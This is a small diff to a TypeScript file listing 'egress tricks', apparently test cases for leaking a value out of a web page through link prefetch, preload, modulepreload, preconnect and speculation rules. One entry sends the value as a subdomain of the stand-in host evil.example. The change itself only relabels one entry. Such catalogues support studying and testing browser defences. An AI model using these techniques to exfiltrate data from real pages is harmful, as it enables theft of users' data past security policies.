@@ -79,7 +79,7 @@ export const EGRESS_TRICKS: readonly Trick[] = tricks({
     ['a page', add(`'<link rel=prefetch href="${E}/pf?'+V+'">'`)],
     ['a script', add(`'<link rel=preload as=script href="${E}/pl?'+V+'">'`)],
     ['a module', add(`'<link rel=modulepreload href="${E}/mp?'+V+'">'`)],
-    ['by rules', rules('prefetch', `'${E}/sq?'+V`)],
+    ['by rules, without TLS', rules('prefetch', `'${E}/sq?'+V`)],
     ['a page of its own host that posts', rules('prerender', `'/posts'`)],
     ['a connection', add(`'<link rel=preconnect href="${S}">'`)],
     ['a connection to a name that tells', add(`'<link rel=preconnect href="https://'+V+'b.evil.example">'`)],
